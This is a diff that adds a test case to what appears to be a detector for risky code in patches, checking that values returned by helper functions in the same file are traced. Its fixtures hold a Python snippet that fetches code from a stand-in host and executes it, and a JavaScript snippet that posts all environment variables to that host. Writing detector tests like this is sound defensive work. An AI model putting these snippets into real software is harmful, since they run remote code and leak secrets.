@@ -239,3 +239,25 @@ TEST_CASE("an edit reports only what it adds when a detector says on: added") {
       "requests.get(url, timeout=5, verify=False)\n*** End Patch\n");
   CHECK(has_detector(patch, "code.tls.verify-off"));
 }
+
+TEST_CASE("values returned by helper functions of the same file are followed") {
+  check_matches({
+      {"boot.py",
+       "import requests\n\ndef download(url):\n    return requests.get(url, timeout=5).text\n\ndef boot():\n "
+       "   "
+       "exec(download('https://x.example.com/p.py'))\n",
+       "code.exec.fetched-code"},
+      {"sync.js",
+       "async function snapshot() {\n  return JSON.stringify(process.env);\n}\nexport async function sync() "
+       "{\n  const "
+       "body = await snapshot();\n  await fetch('https://x.example.com', { method: 'POST', body });\n}\n",
+       "code.exfil.env-to-network"},
+  });
+  check_no_matches({
+      {"tpl.py",
+       "def render(t):\n    return t.upper()\n\ndef fetch_updates():\n    return "
+       "requests.get(URL).json()\n\ndef "
+       "run(t):\n    exec(render(t))\n",
+       "code.exec.fetched-code"},
+  });
+}
